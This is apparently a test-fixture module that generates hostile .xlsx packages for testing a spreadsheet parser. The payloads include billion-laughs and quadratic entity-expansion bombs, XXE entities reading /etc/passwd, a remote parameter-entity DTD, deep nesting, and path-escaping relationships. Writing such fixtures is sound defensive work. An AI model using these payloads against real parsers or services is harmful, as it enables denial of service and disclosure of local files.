"""XML that expands, reaches out, nests, or is no XML."""

import re
from collections.abc import Callable
from pathlib import Path

from hostile.base import ONE_CELL, changed, good_parts, one_sheet, put, put_cell, sheet_part
from hostile.kinds import Kind, kind
from support.packages import MAIN, pack, parts, relations, worksheet

_PROGRESS = sheet_part("指标进度")
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    + "]>"
)
_XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def _with_prolog(part: str, prolog: str) -> bytes:
    """The good workbook with something before a part's root element."""
    result = good_parts()
    xml = bytes(result[part]).decode()
    declaration, _, rest = xml.partition("?>")
    result[part] = f"{declaration}?>{prolog}{rest}" if rest else prolog + xml
    return pack(result)


@kind("S101")
def billion_laughs_in_a_sheet(folder: Path) -> Path:
    """Entities of entities: 20 GB of laughter in a kilobyte."""
    return put(folder, one_sheet(_LAUGHS + worksheet('<row r="1"><c r="A1" t="str"><v>&a10;</v></c></row>')))


@kind("S101")
def billion_laughs_in_the_texts(folder: Path) -> Path:
    """The same in the list of shared texts."""
    strings = f'{_LAUGHS}<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>&a10;</t></si></sst>'
    return put(folder, one_sheet(worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=strings))


@kind("S101")
def quadratic_entity(folder: Path) -> Path:
    """One long entity, named ten thousand times: no nesting, the same end."""
    prolog = f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>'
    return put(
        folder,
        one_sheet(prolog + worksheet(f'<row r="1"><c r="A1" t="str"><v>{"&a;" * 10_000}</v></c></row>')),
    )


@kind("S101")
def xxe_in_a_sheet(folder: Path) -> Path:
    """An external entity that would read a file of the computer into a cell."""
    return put(folder, _with_prolog(_PROGRESS, _XXE))


@kind("S101")
def xxe_in_the_workbook_part(folder: Path) -> Path:
    """The same where the sheets are listed."""
    return put(folder, _with_prolog("xl/workbook.xml", _XXE))


@kind("S101")
def xxe_in_the_relations(folder: Path) -> Path:
    """The same in the first list of parts."""
    return put(folder, _with_prolog("_rels/.rels", _XXE))


@kind("S101")
def xxe_by_parameter_entity(folder: Path) -> Path:
    """A document type that lies on another computer."""
    prolog = '<!DOCTYPE x SYSTEM "http://example.invalid/x.dtd" [<!ENTITY % p SYSTEM "http://example.invalid/p"> %p;]>'
    return put(folder, _with_prolog("xl/sharedStrings.xml", prolog))


@kind("S101")
def xxe_in_the_stamp(folder: Path) -> Path:
    """The same in the document properties, where the stamp is."""
    return put(folder, _with_prolog("docProps/custom.xml", _XXE))


@kind("S101")
def doctype_in_utf_16(folder: Path) -> Path:
    """A document type that no search for its bytes would find."""
    xml = '<?xml version="1.0" encoding="utf-16"?>' + _XXE + ONE_CELL
    return put(folder, one_sheet(xml.encode("utf-16")))


@kind("S101")
def encoding_unknown(folder: Path) -> Path:
    """A sheet in an encoding that hides ASCII."""
    return put(folder, one_sheet('<?xml version="1.0" encoding="utf-7"?>' + ONE_CELL))


@kind("S101")
def bytes_that_are_no_utf_8(folder: Path) -> Path:
    """A lone continuation byte in a text."""
    xml = worksheet('<row r="1"><c r="A1" t="inlineStr"><is><t>X</t></is></c></row>').encode()
    return put(folder, one_sheet(xml.replace(b">X<", b">\x80\xff<")))


@kind("S101")
def nested_100_000_deep(folder: Path) -> Path:
    """Elements in elements, a hundred thousand levels."""
    deep = "<a>" * 100_000 + "</a>" * 100_000
    return put(folder, one_sheet(worksheet(deep)))


@kind("S201")
def nested_after_the_rows(folder: Path) -> Path:
    """The same where only other programs' extensions stand."""
    deep = "<a>" * 50_000 + "</a>" * 50_000
    xml = worksheet('<row r="1"><c r="A1"><v>1</v></c></row>', after=f"<mergeCells/><extLst>{deep}</extLst>")
    return put(folder, one_sheet(xml))


@kind("S201")
def attributes_100_000(folder: Path) -> Path:
    """A root element with a hundred thousand attributes."""
    many = " ".join(f'a{n}="1"' for n in range(100_000))
    return put(folder, one_sheet(ONE_CELL.replace("<worksheet ", f"<worksheet {many} ")))


@kind("S101")
def attribute_twice(folder: Path) -> Path:
    """A cell with two addresses: not well formed, whichever one would count."""
    return put(folder, changed(_PROGRESS, '<c r="F7"', '<c r="F7" r="F8"'))


@kind("S101")
def element_not_closed(folder: Path) -> Path:
    """A row that never ends."""
    return put(folder, changed(_PROGRESS, "</row>", ""))


@kind("S101")
def sheet_is_empty(folder: Path) -> Path:
    """A worksheet part of no bytes."""
    return put(folder, {**good_parts(), _PROGRESS: b""})


@kind("S101")
def sheet_is_a_picture(folder: Path) -> Path:
    """A worksheet part that is something else altogether."""
    return put(folder, {**good_parts(), _PROGRESS: b"\x89PNG\r\n" + bytes(range(256)) * 40})


@kind("S101")
def sheet_part_missing(folder: Path) -> Path:
    """A sheet that is listed and not there."""
    result = good_parts()
    del result[_PROGRESS]
    return put(folder, result)


@kind("S101")
def relations_missing(folder: Path) -> Path:
    """Nothing says which part is which sheet."""
    result = good_parts()
    del result["xl/_rels/workbook.xml.rels"]
    return put(folder, result)


@kind("S101")
def content_types_missing(folder: Path) -> Path:
    """Nothing says what the parts are."""
    result = good_parts()
    del result["[Content_Types].xml"]
    return put(folder, result)


@kind("S101")
def main_part_is_itself(folder: Path) -> Path:
    """The list of parts names itself as the workbook."""
    return put(folder, {**good_parts(), "_rels/.rels": relations(("r1", "officeDocument", "_rels/.rels"))})


@kind("S101")
def main_part_escapes(folder: Path) -> Path:
    """The workbook part is said to lie outside the file."""
    return put(
        folder, {**good_parts(), "_rels/.rels": relations(("r1", "officeDocument", "../../etc/passwd"))}
    )


@kind("S201")
def every_sheet_is_one_part(folder: Path) -> Path:
    """200 sheets that all name the same part."""
    result = parts({f"表{n}": ONE_CELL for n in range(200)})
    links = [(f"s{n}", "worksheet", "worksheets/sheet1.xml") for n in range(1, 201)]
    return put(folder, {**result, "xl/_rels/workbook.xml.rels": relations(*links)})


@kind("S104")
def every_sheet_is_one_large_part(folder: Path) -> Path:
    """200 sheets that all name one part of 8 MB: inflated once for each, they would be 1.6 GB."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 180_000))
    result = parts({f"表{n}": ONE_CELL for n in range(200)})
    links = [(f"s{n}", "worksheet", "worksheets/sheet1.xml") for n in range(1, 201)]
    result["xl/worksheets/sheet1.xml"] = worksheet(rows)
    return put(folder, {**result, "xl/_rels/workbook.xml.rels": relations(*links)})


@kind("S201")
def sheet_is_the_text_list(folder: Path) -> Path:
    """A sheet whose part is the list of shared texts."""
    old = "worksheets/sheet2.xml"
    return put(folder, changed("xl/_rels/workbook.xml.rels", old, "sharedStrings.xml"))


@kind("S201")
def relations_in_a_circle(folder: Path) -> Path:
    """Two parts that name each other."""
    extra = {
        "xl/externalLinks/_rels/a.xml.rels": relations(("r1", "externalLinkPath", "b.xml")),
        "xl/externalLinks/_rels/b.xml.rels": relations(("r1", "externalLinkPath", "a.xml")),
    }
    return put(folder, one_sheet(ONE_CELL, extra=extra))


@kind("S104")
def sheets_4_000(folder: Path) -> Path:
    """Four thousand sheets, all of them there: as many as a package may have entries."""
    return put(folder, pack(parts({f"表{n}": ONE_CELL for n in range(4000)})), "表.xlsx")


@kind("S104")
def sheets_10_000(folder: Path) -> Path:
    """Ten thousand sheets, all of them there: more than a package may have entries."""
    return put(folder, pack(parts({f"表{n}": ONE_CELL for n in range(10_000)})), "表.xlsx")


@kind("S104")
def sheets_10_000_of_one_part(folder: Path) -> Path:
    """Ten thousand sheets that all name one part."""
    result = parts({f"表{n}": ONE_CELL for n in range(10_000)})
    links = [(f"s{n}", "worksheet", "worksheets/sheet1.xml") for n in range(1, 10_001)]
    kept = {n: c for n, c in result.items() if "/sheet" not in n or n.endswith("/sheet1.xml")}
    return put(folder, {**kept, "xl/_rels/workbook.xml.rels": relations(*links)})


@kind("S101")
def no_sheets(folder: Path) -> Path:
    """A workbook without any."""
    return put(folder, pack(parts({})))


@kind("S301 S302")
def two_sheets_of_one_name(folder: Path) -> Path:
    """Two sheets called 指标进度: Excel forbids it, so a program made this."""
    return put(folder, changed("xl/workbook.xml", 'name="困难问题"', 'name="指标进度"'))


@kind("S201")
def styles_without_end(folder: Path) -> Path:
    """A million cell formats."""
    styles = f'<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 1_000_000}</cellXfs></styleSheet>'
    return put(folder, one_sheet(ONE_CELL, styles=styles))


@kind("S201")
def number_format_of_a_megabyte(folder: Path) -> Path:
    """A number format that takes long to understand."""
    code = "[y" * 300_000 + "&quot;" * 100_000
    styles = (
        f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
        '<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    return put(folder, one_sheet(worksheet('<row r="1"><c r="A1" s="0"><v>1</v></c></row>'), styles=styles))


@kind("S201")
def style_numbers_absurd(folder: Path) -> Path:
    """Styles and formats by numbers of a thousand digits."""
    styles = (
        f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="{"9" * 1000}" formatCode="yyyy"/></numFmts>'
        f'<cellXfs><xf numFmtId="{"8" * 5000}"/></cellXfs></styleSheet>'
    )
    xml = worksheet(f'<row r="1"><c r="A1" s="{"7" * 1000}"><v>1</v></c></row>')
    return put(folder, one_sheet(xml, styles=styles))


def _same_table(name: str, about: str, change: Callable[[str], str]) -> Kind:
    def make(folder: Path) -> Path:
        result = good_parts()
        result[_PROGRESS] = change(bytes(result[_PROGRESS]).decode())
        return put(folder, result)

    make.__doc__ = about
    return Kind(name, make, frozenset(), actual=1)


def _prefixed(xml: str) -> str:
    xml = re.sub(r"<(/?)([A-Za-z])", r"<\1m:\2", xml.partition("?>")[2])
    return xml.replace(" xmlns=", " xmlns:m=")


SAME_TABLE = (
    _same_table(
        "comments_inside_cells",
        "Comments in the middle of numbers.",
        lambda x: put_cell(x, "F7", "<v><!--0-->1<!--9--></v>"),
    ),
    _same_table(
        "cdata_inside_cells", "A number in CDATA.", lambda x: put_cell(x, "F7", "<v><![CDATA[1]]></v>")
    ),
    _same_table(
        "entity_inside_numbers",
        "A number by its character's code.",
        lambda x: put_cell(x, "F7", "<v>&#49;</v>"),
    ),
    _same_table("prefixed_names", "A prefix before every name.", _prefixed),
    _same_table(
        "inline_runs",
        "A remark in a hundred thousand pieces.",
        lambda x: put_cell(x, "I7", f"<!--x--><is>{'<r><t>长</t></r>' * 100_000}</is>", "inlineStr"),
    ),
    _same_table(
        "single_quotes",
        "Other quotation marks around every attribute.",
        lambda x: re.sub(r'="([^"\']*)"', r"='\1'", x),
    ),
)
